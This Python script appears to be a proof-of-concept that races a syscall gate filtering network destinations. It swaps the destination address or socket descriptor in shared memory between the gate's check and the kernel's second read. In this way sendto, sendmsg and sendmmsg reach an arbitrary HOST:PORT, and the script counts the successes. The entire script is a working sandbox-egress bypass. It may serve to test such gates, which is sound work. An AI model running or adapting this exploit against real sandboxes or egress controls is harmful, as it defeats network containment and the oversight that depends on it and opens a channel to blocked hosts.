# Sends whose destination the kernel would read again after the gate looked.
# streamswap.py SECONDS HOST PORT [MODE]. Prints "sent N after M tries".
#  sendto:  sendto with an address on a TCP socket (a stream socket ignores
#           it): a thread dup2()s a UDP socket onto the descriptor and a
#           process sharing the page swaps the address for HOST:PORT.
#  sendmsg: sendmsg without a name on a TCP socket; the descriptor swapped
#           the same way and the header's name set to HOST:PORT meanwhile.
#  sendmmsg: sendmmsg of one message without a name on a UDP socket that is
#           not connected; the header's name set to HOST:PORT meanwhile.
import ctypes, mmap, os, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
seconds, host, port = float(sys.argv[1]), sys.argv[2], int(sys.argv[3])
mode = sys.argv[4] if len(sys.argv) > 4 else "sendto"
mine = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); mine.bind(("127.0.0.1", 0))
lst = socket.socket(); lst.bind(("127.0.0.1", 0)); lst.listen(8)
ok = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(mine.getsockname()[1]),
                 socket.inet_aton("127.0.0.1"))
bad = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
m = mmap.mmap(-1, 4096)
base = ctypes.addressof(ctypes.c_char.from_buffer(m))
payload = b"swapped-datagram\n"
m[0:16] = ok
m[16:32] = bad
m[64:64 + len(payload)] = payload
# struct iovec at 128; struct msghdr (or mmsghdr) at 256.
m[128:144] = struct.pack("<QQ", base + 64, len(payload))
def header(name, namelen):
    return struct.pack("<QI4xQQQQi4x", name, namelen, base + 128, 1, 0, 0, 0)
plain, named = header(0, 0), header(base + 16, 16)
m[256:256 + len(plain)] = plain
if mode == "sendto":
    first, second = ok, bad
    at, size = 0, 16
else:
    first, second = plain, named
    at, size = 256, len(plain)
child = os.fork()
if child == 0:
    while True:
        m[at:at + size] = first
        for _ in range(300): pass
        m[at:at + size] = second
        for _ in range(300): pass
tcp = socket.create_connection(lst.getsockname()); tcp.setblocking(False)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
n = socket.socket(); fd = n.fileno()
stop = False
def swap():
    while not stop:
        os.dup2(tcp.fileno(), fd)
        os.dup2(udp.fileno(), fd)
if mode == "sendmmsg":
    os.dup2(udp.fileno(), fd)
else:
    th = threading.Thread(target=swap); th.start()
sent = tries = 0
deadline = time.time() + seconds
buf = ctypes.c_void_p(base + 64)
while time.time() < deadline:
    tries += 1
    if mode == "sendto":
        r = libc.sendto(fd, buf, len(payload), 0, ctypes.c_void_p(base), 16)
    elif mode == "sendmsg":
        r = libc.sendmsg(fd, ctypes.c_void_p(base + 256), 0)
    else:
        r = libc.sendmmsg(fd, ctypes.c_void_p(base + 256), 1, 0)
    if r > 0:
        sent += 1
stop = True
if mode != "sendmmsg":
    th.join()
os.kill(child, 9); os.waitpid(child, 0)
print(f"sent {sent} after {tries} tries", flush=True)
